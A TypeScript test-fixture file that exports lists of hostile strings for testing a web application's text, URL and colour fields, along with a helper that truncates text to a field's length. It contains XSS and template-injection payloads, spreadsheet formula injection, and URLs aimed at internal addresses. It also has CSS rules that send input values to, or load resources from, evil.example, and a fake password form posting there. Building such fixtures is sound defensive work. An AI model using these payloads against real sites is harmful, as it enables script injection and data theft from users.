/** Texts that try to break out of their context, or to mislead readers. */
export const HOSTILE_TEXTS: readonly string[] = [
  '"><script>alert(1)</script><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)><base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
  '</title></script></style></textarea></svg>--><iframe src=javascript:alert(1)></iframe>',
  ']]><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><![CDATA[',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b onclick=alert(1)&#62; &amp;quot;',
  'BEGIN:VEVENT\r\nATTACH:https://evil.example/\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  'a\u202egnp.exe\u2066\u2067 b\u200f\u2028c\u2029d\ufeff',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %> {% raw %}',
  '=HYPERLINK("https://evil.example/";"x") @SUM(1) +1 -1',
  '[x](javascript:alert(1)) ![x](https://evil.example/x.png) <javascript:alert(1)> [y](//evil.example/ "t\\" onclick=alert(1)")',
  '`</code></pre><form action=https://evil.example/><input name=password>` \n\n```\n</pre><object data=x>\n```\n\n| <b | x |\n|-|-|\n',
  'मराठी 日本語 مرحبا שלום 👩🏽‍🚒 z̶̢͘͝a̷̛̛l̸͎̈́g̵̝̿o̶̤͐',
  `${'W'.repeat(5_000)} ${'<'.repeat(4_900)}`,
];

/** Hostile URLs for logos and links. The API may reject them. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  'javascript:alert(1)//https://x.example/',
  'https://evil.example/"onerror="alert(1)',
  "https://evil.example/'><script>alert(1)</script>",
  "https://a;script-src'unsafe-inline'*/logo.png",
  'https://*/logo.png',
  'https://user:secret@evil.example/logo.png',
  'http://127.0.0.1:1/internal.png',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/x,y z;\u202e',
  '//evil.example/logo.png',
  'https://[::1]:1/logo.svg#"><svg onload=alert(1)>',
];

/** Hostile CSS rules for the colour fields. */
export const HOSTILE_RULES: readonly string[] = [
  '</style><script>alert(1)</script>',
  '@import url(https://evil.example/x.css); .card { background: url(https://evil.example/x.png) }',
  'input[value^=a] { background: url(//evil.example/a) } .pill { display: none; color: #fff; opacity: 0 }',
  'body { position: fixed; inset: 0; z-index: 9999 } .banner { transform: scale(0); font-size: 0 }',
  '.banner h1 { color: transparent } .icon, .pill { fill: green; color: #fff; background: #fff; padding: 9em }',
  '.row, .card, main > * { background: #0e7344; color: #0e7344; box-shadow: inset 0 0 0 40px #0e7344 }',
  '@font-face { font-family: x; src: url(https://evil.example/x.woff) } * { font-family: x; --major-fill: green }',
  '.x { color: red; } } } @media print { .y { behavior: url(x) } } \\75rl(x) { color: expression(alert(1)) }',
  `${'a{'.repeat(3_000)}color:red`,
];

/** Truncates a text to the maximum length of a field, without splitting a character. */
export const fitting = (text: string, most: number): string => {
  let fits = '';
  for (const character of text) {
    if (fits.length + character.length > most) break;
    fits += character;
  }
  return fits.trim() === '' ? 'x' : fits;
};
